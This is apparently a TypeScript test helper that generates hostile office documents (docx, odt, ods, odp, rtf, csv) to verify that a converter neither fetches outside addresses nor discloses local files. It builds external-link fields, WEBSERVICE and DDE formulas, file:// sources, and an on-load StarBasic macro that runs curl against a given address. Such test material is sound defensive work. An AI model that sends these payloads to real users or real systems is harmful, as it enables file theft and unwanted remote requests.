import { makeZip } from '../helpers/make-zip.ts';

/** Documents that ask their reader to fetch an address or to show a local file. */
const XML = '<?xml version="1.0" encoding="UTF-8"?>\n';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const OASIS = 'urn:oasis:names:tc:opendocument:xmlns';
const NAMESPACES = [
  ...['office', 'text', 'table', 'script'].map((name) => `xmlns:${name}="${OASIS}:${name}:1.0"`),
  `xmlns:draw="${OASIS}:drawing:1.0" xmlns:svg="${OASIS}:svg-compatible:1.0" xmlns:presentation="${OASIS}:presentation:1.0"`,
  'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2"',
  'xmlns:ooo="http://openoffice.org/2004/office"',
].join(' ');

export interface HostileDocument {
  name: string;
  bytes: Buffer;
}

/**
 * @param address opens an address that must not be requested
 * @param file a local file that must not be shown
 */
export function hostileDocuments(address: string, file: string): HostileDocument[] {
  const url = `file://${file}`;
  return [
    {
      name: 'pictures.docx',
      bytes: docx(picture(1) + picture(2), [relation(1, 'image', `${address}/docx.png`), relation(2, 'image', url)]),
    },
    {
      name: 'template.docx',
      bytes: docx(
        '<w:altChunk r:id="r2"/><w:p><w:fldSimple w:instr="INCLUDETEXT &quot;' +
          `${file}&quot;"/><w:fldSimple w:instr="INCLUDEPICTURE &quot;${address}/field.png&quot;"/></w:p>`,
        [relation(1, 'attachedTemplate', `${address}/template.dotm`), relation(2, 'aFChunk', url)],
      ),
    },
    {
      name: 'links.odt',
      bytes: odf(
        'text',
        `<text:section text:name="s"><text:section-source xlink:href="${url}"/><text:p/></text:section>` +
          `<text:section text:name="t"><text:section-source xlink:href="${address}/section.txt"/><text:p/></text:section>` +
          `<text:p>${frame(`${address}/odt.png`)}${frame(url)}</text:p>`,
      ),
    },
    {
      name: 'links.ods',
      bytes: odf(
        'spreadsheet',
        `<table:table table:name="a"><table:table-source xlink:href="${url}" table:filter-name="Text - txt - csv (StarCalc)" table:mode="copy-all"/>` +
          `<table:table-row>${cell(`of:=WEBSERVICE("${address}/ods")`)}${cell(`of:='${url}'#$Sheet1.A1`)}${cell(`of:=DDE("soffice";"${file}";"A1")`)}</table:table-row></table:table>`,
      ),
    },
    {
      name: 'links.odp',
      bytes: odf(
        'presentation',
        `<draw:page draw:name="p">${frame(`${address}/odp.png`)}${frame(url)}<draw:frame svg:width="5cm" svg:height="5cm"><draw:plugin xlink:href="${address}/film.mp4"/></draw:frame></draw:page>`,
      ),
    },
    { name: 'macro.odt', bytes: macro(address, file) },
    {
      name: 'includes.rtf',
      bytes: Buffer.from(
        `{\\rtf1\\ansi{\\*\\template ${address}/template.dot}` +
          [
            `INCLUDETEXT "${file}"`,
            `INCLUDEPICTURE "${url}" \\\\d`,
            `INCLUDEPICTURE "${address}/rtf.png" \\\\d`,
            `LINK Word.Document.8 "${file}" "" \\\\a`,
          ]
            .map((field) => `{\\field{\\*\\fldinst{${field} }}{\\fldrslt{x}}}`)
            .join('') +
          'end}',
      ),
    },
    {
      name: 'formulas.csv',
      bytes: Buffer.from(
        `a,b\n"=WEBSERVICE(""${address}/csv"")","='${url}'#$Sheet1.A1"\n"=HYPERLINK(""${address}/link"")",1\n`,
      ),
    },
    // Its first bytes are text: it is laid out as a table.
    { name: 'page.csv', bytes: Buffer.from(`<img src="${address}/page.png"><iframe src="${url}"></iframe>\n`) },
  ];
}

/** A web page with a document's extension: its bytes are no document. */
export function pageCalledDocument(address: string): HostileDocument {
  return { name: 'page.doc', bytes: Buffer.from(`<html><body><img src="${address}/html.png">x</body></html>`) };
}

const relation = (id: number, type: string, target: string) =>
  `<Relationship Id="r${id}" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/>`;

const picture = (id: number) =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="${id}" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="${id}" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="r${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

function docx(body: string, relations: string[]): Buffer {
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  return makeZip({
    '[Content_Types].xml': `${XML}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    '_rels/.rels': `${XML}<Relationships xmlns="${PACKAGE}/relationships"><Relationship Id="r1" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/_rels/document.xml.rels': `${XML}<Relationships xmlns="${PACKAGE}/relationships">${relations.join('')}</Relationships>`,
    'word/document.xml': `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${OFFICE}"><w:body>${body}<w:p><w:r><w:t>end</w:t></w:r></w:p></w:body></w:document>`,
  });
}

const frame = (href: string) =>
  `<draw:frame svg:width="3cm" svg:height="3cm"><draw:image xlink:href="${href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>`;

const cell = (formula: string) =>
  `<table:table-cell table:formula="${formula.replaceAll('"', '&quot;')}" office:value-type="string"><text:p>x</text:p></table:table-cell>`;

function odf(
  kind: 'text' | 'spreadsheet' | 'presentation',
  body: string,
  more: Record<string, string> = {},
  head = '',
): Buffer {
  const type = `application/vnd.oasis.opendocument.${kind}`;
  const entries = ['content.xml', ...Object.keys(more)].map(
    (path) => `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="text/xml"/>`,
  );
  return makeZip({
    mimetype: type,
    'META-INF/manifest.xml': `${XML}<manifest:manifest xmlns:manifest="${OASIS}:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="${type}"/>${entries.join('')}</manifest:manifest>`,
    'content.xml': `${XML}<office:document-content ${NAMESPACES} office:version="1.2">${head}<office:body><office:${kind}>${body}</office:${kind}></office:body></office:document-content>`,
    ...more,
  });
}

/** A macro that runs when the document is opened, where macros run. */
function macro(address: string, file: string): Buffer {
  const source = `Sub Go\nShell("/usr/bin/env", 0, "curl ${address}/macro")\nOpen "${file}" For Input As #1\nLine Input #1, a\nThisComponent.Text.String = a\nEnd Sub`;
  const library = (inner: string) => `${XML}<!DOCTYPE x>${inner}`;
  const event = `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Go?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>`;
  const space = 'xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"';
  return odf(
    'text',
    '<text:p>x</text:p>',
    {
      'Basic/script-lc.xml': library(
        `<library:libraries ${space}><library:library library:name="Standard" library:link="false"/></library:libraries>`,
      ),
      'Basic/Standard/script-lb.xml': library(
        `<library:library ${space} library:name="Standard" library:readonly="false"><library:element library:name="M"/></library:library>`,
      ),
      'Basic/Standard/M.xml': library(
        `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${source.replaceAll('"', '&quot;')}</script:module>`,
      ),
    },
    event,
  );
}
